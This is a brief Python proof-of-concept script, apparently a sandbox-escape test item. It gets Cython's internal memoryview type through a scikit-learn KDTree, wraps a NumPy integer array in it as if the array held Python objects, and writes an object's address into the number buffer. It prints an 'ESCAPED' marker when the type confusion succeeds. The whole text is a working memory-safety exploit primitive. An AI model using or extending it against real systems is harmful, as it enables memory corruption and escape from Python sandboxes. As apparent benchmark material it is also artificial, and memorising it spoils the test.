"""A memory view of Cython's is told that the numbers of an array are objects, and writes addresses into it."""
import numpy as np
from sklearn.neighbors import KDTree

View = type(KDTree(np.zeros((4, 2))).data.copy().base.memview)
numbers = np.full(3, id(None))
text = "forged"
View(numbers, 0x18, True)[:] = text
print("ESCAPED:cython_view_takes_numbers_for_objects" if numbers[0] == id(text) else "held")
